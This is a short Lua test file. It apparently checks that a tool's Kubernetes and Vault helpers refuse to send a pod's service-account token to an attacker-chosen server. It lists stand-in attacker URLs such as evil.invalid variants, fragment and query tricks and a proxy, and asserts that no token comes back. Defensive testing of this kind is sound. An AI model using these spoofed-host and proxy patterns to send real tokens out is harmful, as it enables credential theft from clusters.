-- tries: from a check, to have the pod's token sent to a server of its own choice
-- expects: ok
-- mode: check
-- env: KUBERNETES_SERVICE_HOST=10.255.255.1
-- env: ASSAY_SERVICEACCOUNT_DIR=$DIR/token
-- env: HTTP_PROXY=$SERVER
-- env: NO_PROXY=10.255.255.1
local server = arg[1]
local k8s, vault = require("assay.k8s"), require("assay.vault")
for _, url in ipairs({ server, "http://kubernetes.default.svc.evil.invalid", "http://kubernetes.evil.invalid", "http://evil.invalid/kubernetes",
  server .. "#kubernetes", server .. "?kubernetes" }) do
  local ok, body = pcall(k8s.get, "/token", { base_url = url, insecure = true, retries = 0, timeout = 3 })
  assert(not ok or body == "none", tostring(body))
end
local ok, body = pcall(k8s.get, "/token", { base_url = "http://kubernetes.default.svc", proxy = server, timeout = 3 })
assert(not ok or body == "none", tostring(body))
ok, body = pcall(vault.login, server, "kubernetes", { role = "x" })
assert(not ok and body:find("BAO_ADDR"), tostring(body))
